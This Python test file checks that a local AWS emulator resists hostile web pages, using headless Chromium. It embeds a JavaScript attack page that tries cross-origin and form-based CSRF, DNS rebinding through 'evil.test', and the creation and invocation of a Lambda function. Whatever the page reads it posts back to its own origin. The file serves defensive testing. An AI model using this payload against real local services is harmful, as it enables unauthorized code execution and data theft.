"""A real browser: a page on another port, and one whose name leads to this machine later, get and change nothing.

Needs Chromium or Chrome on the PATH, or in the variable ``CHROMIUM``.
"""

import base64
import http.client
import io
import json
import os
import shutil
import signal
import subprocess
import sys
import threading
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, ClassVar

import pytest

from emulator import Emulator
from emulator.server.gateway import Gateway
from emulator.server.listening import Server, listen
from tests.emulator.server.served import HEADERS, PATIENCE
from tests.fakes.signals import interruptible

NAMES = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable", "chrome", "chrome-headless-shell")
BROWSER = os.environ.get("CHROMIUM") or next((path for name in NAMES if (path := shutil.which(name))), None)

pytestmark = [
    pytest.mark.skipif(BROWSER is None, reason=f"no browser: none of {', '.join(NAMES)} is on the PATH"),
    pytest.mark.skipif(sys.platform != "linux", reason="needs a second loopback address, which Linux has"),
]

ATTACK = """<!doctype html><body><script>
const AT = "%(target)s", ME = location.origin, read = [], sent = [];
const lambda = "X-Amz-Credential=k/20300101/us-east-1/lambda/aws4_request&X-Amz-Signature=0";
const s3 = "X-Amz-Credential=k/20300101/us-east-1/s3/aws4_request&X-Amz-Signature=0";
const made = JSON.stringify(%(function)s);
const attempt = (name, call) => sent.push((async () => {
  try {
    const response = await call();
    if (response && response.type !== "opaque" && response.status < 400) read.push(name + await response.text());
  } catch (error) {}
})());
const post = (path, body, more) => fetch(AT + path, {method: "POST", body, mode: "no-cors", ...more});
const form = (path, kind, name, value) => {
  const made = Object.assign(document.createElement("form"), {method: "POST", action: AT + path, enctype: kind});
  made.target = "frame" + document.forms.length;
  const frame = Object.assign(document.createElement("iframe"), {name: made.target});
  made.append(Object.assign(document.createElement("input"), {name, value}));
  document.body.append(frame, made);
  sent.push(new Promise((done) => { frame.onload = frame.onerror = done; setTimeout(done, 3000); }));
  made.submit();
};
const element = (tag, values) => sent.push(new Promise((done) => {
  const made = Object.assign(document.createElement(tag), values, {onload: done, onerror: done});
  setTimeout(done, 3000);
  document.body.append(made);
}));
async function all() {
  attempt("create", () => post("/2015-03-31/functions?" + lambda, made));
  await Promise.all(sent);
  attempt("invoke", () => post("/2015-03-31/functions/evil/invocations?" + lambda, "{}"));
  attempt("reset", () => post("/_emulator/reset", ""));
  attempt("clock", () => post("/_emulator/clock", '{"seconds": 60}'));
  attempt("graphql", () => post("/graphql", '{"query": "{ backgroundTasks { listTasks { data { id } } } }"}'));
  attempt("read", () => fetch(AT + "/_emulator/health"));
  attempt("read 2", () => fetch(AT + "/_emulator/health", {referrerPolicy: "no-referrer", credentials: "include"}));
  attempt("json", () => post("/_emulator/reset", "{}", {mode: "cors", headers: {"Content-Type": "application/json"}}));
  attempt("own header", () => fetch(AT + "/_emulator/reset", {method: "POST", headers: {"X-Emulator": "1"}}));
  attempt("target", () => fetch(AT, {method: "POST", body: "{}", headers: %(headers)s}));
  attempt("put", () => fetch(AT + "/papers?" + s3, {method: "PUT"}));
  attempt("presigned", () => fetch(AT + "/?" + s3, {mode: "no-cors"}));
  attempt("redirected", () => fetch(ME + "/redirect", {method: "POST", mode: "no-cors"}));
  navigator.sendBeacon(AT + "/_emulator/reset", "");
  navigator.sendBeacon(AT + "/_emulator/reset", new Blob(["{}"], {type: "application/json"}));
  form("/_emulator/reset", "text/plain", "a", "b");
  form("/_emulator/clock", "text/plain", '{"seconds": 60, "x": "', '"}');
  form("/?" + lambda, "application/x-www-form-urlencoded", "Action", "CreateQueue");
  form("/2015-03-31/functions?" + lambda, "multipart/form-data", "a", "b");
  element("img", {src: AT + "/papers/key?" + s3});
  element("script", {src: AT + "/papers/key?" + s3});
  element("link", {rel: "stylesheet", href: AT + "/_emulator/health"});
  element("iframe", {src: AT + "/graphql"});
  element("iframe", {sandbox: "allow-scripts", srcdoc:
    `<script>fetch("${AT}/_emulator/reset", {method: "POST", mode: "no-cors"})</` + `script>`});
  sent.push(new Promise((done) => {
    const socket = new WebSocket(AT.replace("http", "ws") + "/graphql");
    socket.onopen = () => { read.push("WebSocket"); done(); };
    socket.onerror = socket.onclose = done;
  }));
  sent.push(new Promise((done) => {
    const events = new EventSource(AT + "/_emulator/health");
    events.onerror = () => { events.close(); done(); };
  }));
  await Promise.all(sent);
  await fetch(ME + "/done", {method: "POST", body: JSON.stringify(read)});
}
all();
</script></body>"""


class Page(BaseHTTPRequestHandler):
    """The server of the page. What it does not have itself, it passes on to ``target``: so a name is bound anew."""

    text: ClassVar[str] = ""
    redirect: ClassVar[str] = ""
    target: ClassVar[tuple[str, int] | None] = None
    read: ClassVar[list[str]] = []
    done: ClassVar[threading.Event]

    def answer(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        if self.path == "/page":
            self.reply(200, self.text.encode(), {"Content-Type": "text/html"})
        elif self.path == "/redirect":
            self.reply(307, b"", {"Location": self.redirect})
        elif self.path == "/done":
            self.read.extend(json.loads(body))
            self.reply(200, b"", {})
            self.done.set()
        elif self.target is None:
            self.reply(404, b"", {})
        else:
            connection = http.client.HTTPConnection(*self.target, timeout=PATIENCE)
            connection.request(self.command, self.path, body, {k: v for k, v in self.headers.items() if v})
            with connection.getresponse() as response:
                kind = response.headers.get("Content-Type") or "text/plain"
                self.reply(response.status, response.read(), {"Content-Type": kind})
            connection.close()

    def reply(self, status: int, body: bytes, headers: dict[str, str]) -> None:
        self.send_response(status)
        for name, value in {**headers, "Content-Length": str(len(body))}.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: Any) -> None:
        """Nothing."""


for method in ("GET", "POST", "PUT", "OPTIONS", "HEAD"):
    setattr(Page, f"do_{method}", Page.answer)


class Seen:
    """A gateway's application that notes where each request came from and how it was answered."""

    def __init__(self, app: Callable[..., Any]) -> None:
        self._app = app
        self.requests: list[tuple[str, str, int]] = []

    async def __call__(self, scope: Any, receive: Any, send: Any) -> None:
        async def note(message: Any) -> None:
            if message["type"] == "http.response.start":
                self.requests.append((scope["method"], scope["path"], message["status"]))
            await send(message)

        await self._app(scope, receive, note)


@contextmanager
def serving() -> Iterator[tuple[int, Seen, list[Emulator]]]:
    """Port, requests, and emulators made."""
    worlds: list[Emulator] = []

    def make() -> Emulator:
        worlds.append(Emulator())
        return worlds[-1]

    gateway = Gateway(make)
    gateway.app = seen = Seen(gateway.app)  # type: ignore[assignment]
    ready, listener = threading.Event(), listen("127.0.0.1", 0)
    server = Server(gateway, listener, lambda _url: ready.set())
    thread = threading.Thread(target=server.answer_requests, daemon=True)
    thread.start()
    assert ready.wait(PATIENCE)
    try:
        yield listener.getsockname()[1], seen, worlds
    finally:
        server.should_exit = True
        thread.join(PATIENCE)


@contextmanager
def page(
    address: str, port: int, text: str, redirect: str, target: tuple[str, int] | None
) -> Iterator[tuple[int, type[Page]]]:
    """The page's server: its port, and what it came to know."""
    values: dict[str, Any] = {
        "text": text,
        "redirect": redirect,
        "target": target,
        "read": [],
        "done": threading.Event(),
    }
    shown: type[Page] = type("Shown", (Page,), values)
    server = ThreadingHTTPServer((address, port), shown)
    threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01}, daemon=True).start()
    try:
        yield server.server_address[1], shown
    finally:
        server.shutdown()
        server.server_close()


def command(folder: Path, *arguments: str) -> list[str]:
    rules = "MAP evil.test 127.0.0.1, MAP rebound.test 127.0.0.2"
    options = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run"]
    options += [f"--user-data-dir={folder}", f"--host-resolver-rules={rules}", "--disable-background-networking"]
    return [str(BROWSER), *options, *arguments]


def visit(url: str, folder: Path, done: threading.Event) -> None:
    """Show the page until it says that it has tried everything."""
    with interruptible():
        browser = subprocess.Popen(
            command(folder, "--remote-debugging-port=0", url),
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
    try:
        assert done.wait(60), "the page did not come to its end"
    finally:
        os.killpg(browser.pid, signal.SIGKILL)
        browser.wait(PATIENCE)


def function(file: Path) -> dict[str, Any]:
    """A CreateFunction request; the function writes ``file``."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("evil.py", f"def handler(event, context):\n    open({str(file)!r}, 'w').close()\n")
    code = {"ZipFile": base64.b64encode(packed.getvalue()).decode()}
    return {
        "FunctionName": "evil",
        "Runtime": "python3.12",
        "Role": "arn:aws:iam::123456789012:role/r",
        "Handler": "evil.handler",
        "Code": code,
    }


@pytest.mark.parametrize("name", ["evil.test", "localhost", "rebound.test"])
def test_a_page_does_nothing_and_reads_nothing(name: str, tmp_path: Path) -> None:
    """``localhost`` is the same site at another port; ``rebound.test`` is of the server's own port and, to the browser,
    of the same origin."""
    file = tmp_path / "ran"
    with serving() as (port, seen, worlds):
        rebound = name == "rebound.test"
        target = f"http://rebound.test:{port}" if rebound else f"http://127.0.0.1:{port}"
        headers = json.dumps({**HEADERS, "X-Amz-Target": "AWSStepFunctions.ListStateMachines"})
        text = ATTACK % {"target": target, "function": json.dumps(function(file)), "headers": headers}
        address, at, to = ("127.0.0.2", port, ("127.0.0.1", port)) if rebound else ("127.0.0.1", 0, None)
        with page(address, at, text, f"{target}/_emulator/reset", to) as (own, shown):
            began = worlds[-1].clock.now()
            visit(f"http://{name}:{own}/page", tmp_path / "browser", shown.done)
        assert {status for _, _, status in seen.requests} <= {400, 403, 421}, seen.requests
        assert len(seen.requests) >= 15
        assert (len(worlds), worlds[-1].clock.now(), shown.read) == (1, began, [])
    assert not file.exists()
